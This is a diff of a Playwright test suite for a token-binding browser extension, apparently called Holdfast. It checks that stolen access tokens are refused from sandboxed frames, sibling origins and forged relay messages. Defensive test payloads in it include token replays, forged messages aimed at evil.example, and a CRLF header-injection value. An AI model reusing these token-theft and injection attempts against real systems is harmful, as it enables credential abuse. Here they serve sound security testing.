@@ -1,5 +1,6 @@
 import type { Page } from '@playwright/test';
 import type { AuthorizationServer } from '../src/demo/authorization-server.ts';
+import { signInByHand } from './support/by-hand.ts';
 import { declineAll } from './support/further.ts';
 import { hostileSite } from './support/hostile/site.ts';
 import { chooseIn } from './support/menu.ts';
@@ -10,7 +11,6 @@ import {
   call,
   callAnew,
   connect,
-  consent,
   expect,
   expectBoundOnly,
   openAgent,
@@ -86,8 +86,10 @@ const post = (page: Page, url: string, authorization: string) =>
   );
 
 test.describe('a stolen handle', () => {
-  test('is refused from another protected origin, and from an unprotected one', async ({ world }) => {
-    const { auth, mcp, browser, access, refresh } = await robbed(world);
+  test('is refused from another protected origin, from an unprotected one, and in frames of the agent’s tab', async ({
+    world,
+  }) => {
+    const { auth, mcp, browser, page: own, access, refresh } = await robbed(world);
     const neighbour = await world.agent('neighbour');
     await world.protect(neighbour, [auth, mcp]);
     const stranger = await world.agent('stranger');
@@ -112,11 +114,70 @@ test.describe('a stolen handle', () => {
       expect(answer).toBeGreaterThanOrEqual(400);
       await page.close();
     }
+
+    await test.step('a sandboxed frame of the agent has an origin of its own, and is nobody’s agent', async () => {
+      const before = mcp.log.length;
+      const status = await own.evaluate(
+        async ([url, handle]) => {
+          const frame = document.createElement('iframe');
+          frame.sandbox.add('allow-scripts');
+          frame.srcdoc = `<script>
+            fetch(${JSON.stringify(url)}, { method: 'POST', headers: { authorization: 'Bearer ${handle}', 'content-type': 'application/json' }, body: '{}' })
+              .then((response) => response.status, () => 0)
+              .then((status) => parent.postMessage({ status }, '*'));
+          </script>`;
+          const answer = new Promise<number>((resolve) => {
+            addEventListener('message', ({ data }) => 'status' in data && resolve(data.status));
+          });
+          document.body.append(frame);
+          return answer;
+        },
+        [mcp.resource, access] as const,
+      );
+      expect(status).toBe(401);
+      const [arrived] = mcp.log.slice(before).filter(({ method }) => method === 'POST');
+      expect(arrived).toMatchObject({ origin: 'null', proofs: 0 });
+    });
+
+    await test.step('a subdomain and a port neighbour of the agent, framed in its tab, get nothing accepted', async () => {
+      const subdomain = await world.agent('sub.agent');
+      const port = await world.agent('agent');
+      for (const neighbour of [subdomain, port]) {
+        await call(own); // the rule stands
+        const frame = await own.evaluateHandle(async (src) => {
+          const element = document.createElement('iframe');
+          element.src = src;
+          const loaded = new Promise((resolve) => element.addEventListener('load', resolve));
+          document.body.append(element);
+          await loaded;
+          return element;
+        }, neighbour.origin);
+        const content = await frame.asElement()?.contentFrame();
+        const statuses = await content?.evaluate(
+          async ([url, handle]) => {
+            const attempt = (headers: Record<string, string>) =>
+              fetch(url, {
+                method: 'POST',
+                headers: { 'content-type': 'application/json', ...headers },
+                body: '{}',
+              }).then(
+                (response) => response.status,
+                () => 0,
+              );
+            return [await attempt({}), await attempt({ authorization: `Bearer ${handle}` })];
+          },
+          [mcp.resource, access] as const,
+        );
+        expect(statuses?.every((status) => status === 401 || status === 0)).toBe(true);
+        if (content)
+          expectNoSecret(await content.evaluate(() => JSON.stringify([localStorage, performance.getEntries()])), auth);
+      }
+    });
   });
 
   test('gets its own page no proof for another place: the token goes nowhere else', async ({ world }) => {
     const { agent, auth, mcp, browser, page, access } = await robbed(world);
-    await declineAll(await openPopup(browser, agent.origin));
+    await declineAll(browser, agent.origin);
     const seen: string[] = [];
     const evil = await world.site('evil', (request, response) => {
       seen.push(request.rawHeaders.join('\n'));
@@ -189,36 +250,40 @@ test.describe('the token in the network layer', () => {
     await expect.poll(() => probe(page, mcp.resource).then(() => lastScheme(mcp)), { timeout: 15_000 }).toBeUndefined();
   });
 
-  test('goes with the document: the next one in its tab, of the same domain, gets none', async ({ world }) => {
-    const { mcp, page } = await robbed(world);
-    const neighbour = await world.agent('agent');
-    await world.protect(neighbour, []); // Chrome would let Holdfast put the token there
-    await call(page);
-    await page.goto(neighbour.origin);
-    await probe(page, mcp.resource);
-    expect(mcp.log.at(-1)).toMatchObject({ origin: neighbour.origin, scheme: undefined });
-  });
+  test('goes with its document, with the background that presented it, and with its session', async ({ world }) => {
+    const { mcp, agent, browser, page } = await robbed(world);
+    const popup = await openPopup(browser, agent.origin);
+    const shows = (state: string) => expect(sessionsIn(popup).getByText(state, { exact: true })).toBeVisible();
 
-  test('goes with the background that presented it, when the next one starts', async ({ world }) => {
-    const { mcp, browser, page } = await robbed(world);
-    await call(page);
-    await stopWorker(browser);
-    const popup = await openPopup(browser, new URL(page.url()).origin);
-    await expect(sessionsIn(popup).getByText('Bound', { exact: true })).toBeVisible();
-    await page.bringToFront();
-    await probe(page, mcp.resource);
-    expect(lastScheme(mcp)).toBeUndefined();
-  });
+    await test.step('goes with the document: the next one in its tab, of the same domain, gets none', async () => {
+      const neighbour = await world.agent('agent');
+      await world.protect(neighbour, []); // Chrome would let Holdfast put the token there
+      await call(page);
+      await page.goto(neighbour.origin);
+      await probe(page, mcp.resource);
+      expect(mcp.log.at(-1)).toMatchObject({ origin: neighbour.origin, scheme: undefined });
+    });
 
-  test('goes at once when its session is revoked', async ({ world }) => {
-    const { mcp, browser, page } = await robbed(world);
-    const popup = await openPopup(browser, new URL(page.url()).origin);
-    await chooseIn(sessionsIn(popup), 'More for', 'Revoke…');
-    await call(page);
-    await popup.getByRole('button', { name: 'Revoke the session' }).click();
-    await expect(sessionsIn(popup).getByText('Revoked', { exact: true })).toBeVisible();
-    await probe(page, mcp.resource);
-    expect(lastScheme(mcp)).toBeUndefined();
+    await page.goto(agent.origin);
+    await page.waitForFunction(() => 'agent' in window);
+    await connect(page, { sdk: 'v2', resource: mcp.resource });
+    await test.step('goes with the background that presented it, when the next one starts', async () => {
+      await call(page);
+      await stopWorker(browser);
+      await popup.reload();
+      await shows('Bound');
+      await probe(page, mcp.resource);
+      expect(lastScheme(mcp)).toBeUndefined();
+    });
+
+    await test.step('goes at once when its session is revoked', async () => {
+      await chooseIn(sessionsIn(popup), 'More for', 'Revoke…');
+      await call(page);
+      await popup.getByRole('button', { name: 'Revoke the session' }).click();
+      await shows('Revoked');
+      await probe(page, mcp.resource);
+      expect(lastScheme(mcp)).toBeUndefined();
+    });
   });
 
   test('is that of the session whose resource is nearest, whichever was used last', async ({ world }) => {
@@ -237,13 +302,7 @@ test.describe('the token in the network layer', () => {
     const browser = await world.protect(agent, [auth, mcp]);
     const page = await openAgent(browser, agent);
     const [issuer, resource] = [auth.issuer, mcp.resource];
-    const left = page.waitForURL(/\/interaction\//);
-    const options = { issuer, resource, discovers: true };
-    await Promise.all([left, page.evaluate((given) => window.byHand.signIn(given), options).catch(() => undefined)]);
-    await consent(page);
-    await page.waitForURL(/\/callback/);
-    await page.waitForFunction(() => 'byHand' in window);
-    await page.evaluate(() => window.byHand.finish());
+    await signInByHand(page, { issuer, resource, discovers: true });
     const near = () => page.evaluate((url) => window.byHand.rpc('tools/list', {}, null, url), `${resource}/deep`);
     await near();
     await signIn(page, { sdk: 'v2', resource });
@@ -259,23 +318,12 @@ test.describe('the token in the network layer', () => {
   });
 });
 
-test('an unprotected site’s sign-in at the same server names no key of the agent’s', async ({ world }) => {
-  const { auth, mcp } = await world.servers({ binding: 'offered' });
-  const agent = await world.agent();
-  const browser = await world.protect(agent, [auth, mcp]);
-  const options = { sdk: 'v2' as const, resource: mcp.resource };
-  await signIn(await openAgent(browser, agent), options);
-  const stranger = await world.agent('stranger');
-  const before = auth.log.length;
-  await startSignIn(await openAgent(browser, stranger), options);
-  const request = auth.log.slice(before).find(({ codeChallenge }) => codeChallenge);
-  expect(request).toBeDefined();
-  expect(request?.dpopJkt).toBeUndefined();
-});
-
-test('no address but the authorization endpoint itself is told a key', async ({ world }) => {
+test('no site but the agent, and no address but the authorization endpoint itself, is told a key', async ({
+  world,
+}) => {
   const seen: string[] = [];
   const { auth, mcp } = await world.servers({
+    binding: 'offered',
     auth: {
       intercept: ({ url = '' }, response) => {
         if (!/^\/(auth-evil|auth\/1|AUTH)\?/.test(url)) return false;
@@ -286,8 +334,22 @@ test('no address but the authorization endpoint itself is told a key', async ({ 
     },
   });
   const agent = await world.agent();
-  const page = await openAgent(await world.protect(agent, [auth, mcp]), agent);
-  await signIn(page, { sdk: 'v2', resource: mcp.resource });
+  const browser = await world.protect(agent, [auth, mcp]);
+  const page = await openAgent(browser, agent);
+  const options = { sdk: 'v2' as const, resource: mcp.resource };
+  await signIn(page, options);
+  const requestsSince = (before: number) => auth.log.slice(before).filter(({ codeChallenge }) => codeChallenge);
+  expect(requestsSince(0).map(({ dpopJkt }) => dpopJkt)).toContainEqual(expect.stringMatching(/^[\w-]{43}$/));
+
+  await test.step('an unprotected site’s sign-in at the same server names no key of the agent’s', async () => {
+    const stranger = await world.agent('stranger');
+    const before = auth.log.length;
+    await startSignIn(await openAgent(browser, stranger), options);
+    const [request] = requestsSince(before);
+    expect(request).toBeDefined();
+    expect(request?.dpopJkt).toBeUndefined();
+  });
+
   for (const path of ['auth-evil', 'auth/1', 'AUTH']) {
     await page.goto(agent.origin);
     await page.evaluate((url) => location.assign(url), `${auth.issuer}/${path}?client_id=x`);
@@ -318,7 +380,7 @@ test('what an allowed server’s own pages do at a resource is noted by nobody',
   expect(await activityCodes(browser, server.origin)).toEqual([]);
 });
 
-test('frames, workers and beacons of the page get no token out, and none accepted without a proof', async ({
+test('frames, workers and beacons of the page, and messages that it forges, get no token out, and none accepted without a proof', async ({
   world,
 }) => {
   const { auth, mcp, page, access } = await robbed(world);
@@ -350,105 +412,47 @@ test('frames, workers and beacons of the page get no token out, and none accepte
   expectNoSecret(await sweep(page), auth);
   await connect(page, { sdk: 'v2', resource: mcp.resource });
   await call(page);
-});
 
-test('a sandboxed frame of the agent has an origin of its own, and is nobody’s agent', async ({ world }) => {
-  const { mcp, page, access } = await robbed(world);
-  const before = mcp.log.length;
-  const status = await page.evaluate(
-    async ([url, handle]) => {
-      const frame = document.createElement('iframe');
-      frame.sandbox.add('allow-scripts');
-      frame.srcdoc = `<script>
-        fetch(${JSON.stringify(url)}, { method: 'POST', headers: { authorization: 'Bearer ${handle}', 'content-type': 'application/json' }, body: '{}' })
-          .then((response) => response.status, () => 0)
-          .then((status) => parent.postMessage({ status }, '*'));
-      </script>`;
-      const answer = new Promise<number>((resolve) => {
-        addEventListener('message', ({ data }) => 'status' in data && resolve(data.status));
-      });
-      document.body.append(frame);
-      return answer;
-    },
-    [mcp.resource, access] as const,
-  );
-  expect(status).toBe(401);
-  const [arrived] = mcp.log.slice(before).filter(({ method }) => method === 'POST');
-  expect(arrived).toMatchObject({ origin: 'null', proofs: 0 });
-});
-
-test('a subdomain and a port neighbour of the agent, framed in its tab, get nothing accepted', async ({ world }) => {
-  const { auth, mcp, page, access } = await robbed(world);
-  const subdomain = await world.agent('sub.agent');
-  const port = await world.agent('agent');
-  for (const neighbour of [subdomain, port]) {
-    await call(page); // the rule stands
-    const frame = await page.evaluateHandle(async (src) => {
-      const element = document.createElement('iframe');
-      element.src = src;
-      const loaded = new Promise((resolve) => element.addEventListener('load', resolve));
-      document.body.append(element);
-      await loaded;
-      return element;
-    }, neighbour.origin);
-    const content = await frame.asElement()?.contentFrame();
-    const statuses = await content?.evaluate(
-      async ([url, handle]) => {
-        const attempt = (headers: Record<string, string>) =>
-          fetch(url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: '{}' }).then(
-            (response) => response.status,
-            () => 0,
-          );
-        return [await attempt({}), await attempt({ authorization: `Bearer ${handle}` })];
+  await test.step('forged messages to the relay get no answer, or the one that changes nothing', async () => {
+    const answers = await page.evaluate(
+      async ([resource, handle, tokenEndpoint]) => {
+        const forged = [
+          { kind: 'prove', token: handle, method: 'POST', url: 'https://evil.example/' },
+          { kind: 'prove', token: handle, method: 'POST', url: `${new URL(resource).origin}/other` },
+          { kind: 'prove', token: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
+          { kind: 'prove', token: handle, method: 'POST\r\nX: 1', url: resource },
+          { kind: 'form', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
+          { kind: 'form', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
+          { kind: 'revoke', session: 'x' },
+          { kind: 'protect', origin: 'https://evil.example' },
+          { kind: '__proto__' },
+          null,
+          'x'.repeat(1_000_000),
+        ];
+        const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
+          const { port1, port2 } = new MessageChannel();
+          const heard: unknown[] = [];
+          port1.onmessage = ({ data }) => heard.push(data);
+          scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
+          scope.dispatchEvent(new scope.Event('holdfast:wanted'));
+          for (const [index, body] of forged.entries())
+            port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
+          port1.postMessage({ id: {}, body: forged[0] });
+          port1.postMessage('no envelope');
+          // A request of the wrapper's own goes the same way, behind them.
+          await scope.fetch(resource, { method: 'POST', headers: { authorization: `Bearer ${handle}` }, body: '{}' });
+          return heard;
+        };
+        const frame = document.createElement('iframe');
+        document.body.append(frame);
+        const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
+        return [...(await speak(window)), ...inFrame];
       },
-      [mcp.resource, access] as const,
+      [mcp.resource, access, `${auth.origin}/token`] as const,
     );
-    expect(statuses?.every((status) => status === 401 || status === 0)).toBe(true);
-    if (content)
-      expectNoSecret(await content.evaluate(() => JSON.stringify([localStorage, performance.getEntries()])), auth);
-  }
-});
-
-test('forged messages to the relay get no answer, or the one that changes nothing', async ({ world }) => {
-  const { mcp, page, access, auth } = await robbed(world);
-  const answers = await page.evaluate(
-    async ([resource, handle, tokenEndpoint]) => {
-      const forged = [
-        { kind: 'prove', token: handle, method: 'POST', url: 'https://evil.example/' },
-        { kind: 'prove', token: handle, method: 'POST', url: `${new URL(resource).origin}/other` },
-        { kind: 'prove', token: `hf_${'a'.repeat(43)}`, method: 'POST', url: resource },
-        { kind: 'prove', token: handle, method: 'POST\r\nX: 1', url: resource },
-        { kind: 'form', url: tokenEndpoint, headers: 'none', body: 'grant_type=refresh_token' },
-        { kind: 'form', url: 'https://evil.example/', headers: [], body: `grant_type=x&token=${handle}` },
-        { kind: 'revoke', session: 'x' },
-        { kind: 'protect', origin: 'https://evil.example' },
-        { kind: '__proto__' },
-        null,
-        'x'.repeat(1_000_000),
-      ];
-      const speak = async (scope: Window & typeof globalThis): Promise<unknown[]> => {
-        const { port1, port2 } = new MessageChannel();
-        const heard: unknown[] = [];
-        port1.onmessage = ({ data }) => heard.push(data);
-        scope.dispatchEvent(new scope.MessageEvent('holdfast:given', { ports: [port2] }));
-        scope.dispatchEvent(new scope.Event('holdfast:wanted'));
-        for (const [index, body] of forged.entries())
-          port1.postMessage({ id: index + 1000, body, origin: 'https://victim.example' });
-        port1.postMessage({ id: {}, body: forged[0] });
-        port1.postMessage('no envelope');
-        // A request of the wrapper's own goes the same way, behind them.
-        await scope.fetch(resource, { method: 'POST', headers: { authorization: `Bearer ${handle}` }, body: '{}' });
-        return heard;
-      };
-      const frame = document.createElement('iframe');
-      document.body.append(frame);
-      const inFrame = await speak(frame.contentWindow as Window & typeof globalThis);
-      return [...(await speak(window)), ...inFrame];
-    },
-    [mcp.resource, access, `${auth.origin}/token`] as const,
-  );
-  for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'pass' } });
-  await call(page);
+    for (const answer of answers) expect(answer).toMatchObject({ body: { kind: 'pass' } });
+    await call(page);
+  });
 });
 
 test('a page cannot tell by its resources that Holdfast is there', async ({ world }) => {
